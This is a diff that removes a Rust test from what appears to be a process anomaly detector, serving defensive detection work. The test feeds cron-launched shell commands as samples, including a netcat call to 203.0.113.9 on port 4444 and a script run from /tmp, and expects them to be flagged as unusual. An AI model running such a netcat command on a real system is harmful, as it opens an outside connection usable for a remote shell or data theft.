@@ -64,25 +64,6 @@ fn the_parent_is_part_of_an_execution() {
 }
 
 #[test]
-fn an_interpreter_is_another_program_with_every_script() {
-    let (mut model, web) = (model(), web());
-    let run = |args: &[&str], at| {
-        let mut process = web.process("/bin/dash");
-        let exec = Arc::make_mut(&mut process.exec);
-        (exec.args, exec.name) = (args.iter().map(|a| (*a).to_owned()).collect(), "sh".into());
-        process.ancestors.insert(0, Arc::clone(&web.process("/usr/sbin/cron").exec));
-        web.execute_as(process, at)
-    };
-    judge(&mut model, [run(&["sh", "-c", "backup --daily 1234567"], 0), run(&["sh", "/opt/rotate.sh"], 0)]);
-    model.advance(START + LATER);
-    assert_eq!(judge(&mut model, [run(&["sh", "-c", "backup --weekly"], LATER)]), []);
-    let other = one(&mut model, run(&["sh", "-c", "nc 203.0.113.9 4444"], LATER));
-    assert_eq!(other.title, "web: /usr/sbin/cron ran /bin/dash (sh) -c nc");
-    assert_eq!(other.usual, ["/bin/dash (sh) -c backup", "/bin/dash (sh) /opt/rotate.sh"]);
-    assert_eq!(one(&mut model, run(&["sh", "/tmp/x.sh"], LATER)).object, "/bin/dash (sh) /tmp/x.sh");
-}
-
-#[test]
 fn a_program_that_was_written_over_is_another_one() {
     let (mut model, web) = learnt();
     let written = |name: &str| {
